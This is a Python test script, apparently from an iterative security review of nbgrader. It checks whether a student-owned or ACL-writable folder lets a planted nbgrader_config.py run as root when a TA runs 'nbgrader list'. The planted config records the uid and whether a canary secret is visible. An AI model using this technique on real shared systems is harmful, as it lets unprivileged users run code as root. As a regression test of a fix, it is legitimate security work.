"""a02: round 44's venv-wide refusal of folders others may write (.venv/etc/jupyter/nbgrader_config.py) looks at the
mode bits of the folder nbgrader runs in only: o+w, or g+w of a group not the TA's. It does not look at the folder's
owner, nor at POSIX ACLs. The TA (root, canaries set) runs `nbgrader list` in:
  (a) a folder owned by the student (uid 65534, mode 0755): the student may write it;
  (b) a folder of root's, mode 0750, with an ACL entry user:65534:rwx (ls shows 0770, group root = the TA's egid);
  (c) a folder of root's, mode 0777 (what round 44 fixed: control, must be refused);
  (d) a folder of root's, mode 0700 (control, nothing of the student's can be there).
The student (uid 65534) writes nbgrader_config.py into (a), (b) and (c) herself; it records uid and canary."""
import os, struct, subprocess, json, shutil

BASE = "/tmp/attack45-root-a02"
shutil.rmtree(BASE, ignore_errors=True)
os.makedirs(BASE); os.chmod(BASE, 0o755)
NB = "CLONE/.venv/bin/nbgrader"
ENV = dict(os.environ, DATABASE_URL="postgresql://ta:secret@localhost/x", AWS_SECRET_ACCESS_KEY="AKIASECRETCANARY123")
CONFIG = '''import os, json
open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "RAN-" + str(os.getpid())), "w").write(json.dumps(
    {"uid": os.getuid(), "canary": os.environ.get("AWS_SECRET_ACCESS_KEY") == "AKIASECRETCANARY123"}))
'''

def as_student(fn):
    pid = os.fork()
    if pid == 0:
        try:
            os.setgroups([]); os.setgid(65534); os.setuid(65534); fn(); os._exit(0)
        except BaseException as e:
            print("student failed:", e); os._exit(1)
    os.waitpid(pid, 0)

def acl(entries):
    out = struct.pack("<I", 2)
    for tag, perm, ident in entries:
        out += struct.pack("<HHI", tag, perm, ident)
    return out

cases = {}
a = f"{BASE}/a_owned"; os.mkdir(a); os.chown(a, 65534, 65534); os.chmod(a, 0o755); cases["a_owned_by_student_0755"] = a
b = f"{BASE}/b_acl"; os.mkdir(b); os.chmod(b, 0o750)
try:
    os.setxattr(b, "system.posix_acl_access", acl([(1, 7, 0xFFFFFFFF), (2, 7, 65534), (4, 5, 0xFFFFFFFF), (0x10, 7, 0xFFFFFFFF), (0x20, 0, 0xFFFFFFFF)]))
    cases["b_root_0750_acl_user65534_rwx"] = b
except OSError as e:
    print("ACL not supported here:", e)
c = f"{BASE}/c_world"; os.mkdir(c); os.chmod(c, 0o777); cases["c_root_0777_control"] = c
dd = f"{BASE}/d_private"; os.mkdir(dd); os.chmod(dd, 0o700); cases["d_root_0700_control"] = dd

for name, folder in cases.items():
    if name.startswith("d_"):
        open(f"{folder}/nbgrader_config.py", "w").write(CONFIG)  # root's own: must run (baseline that config is read)
    else:
        as_student(lambda folder=folder: open(f"{folder}/nbgrader_config.py", "w").write(CONFIG))
    st = os.stat(folder)
    r = subprocess.run([NB, "list"], cwd=folder, env=ENV, capture_output=True, text=True, timeout=120)
    ran = [json.load(open(os.path.join(folder, f))) for f in os.listdir(folder) if f.startswith("RAN-")]
    print(f"{name}: mode {oct(st.st_mode & 0o7777)} owner {st.st_uid}:{st.st_gid} rc={r.returncode} "
          f"student config ran: {ran}\n   stderr tail: {r.stderr.strip()[-300:]!r}")
shutil.rmtree(BASE)
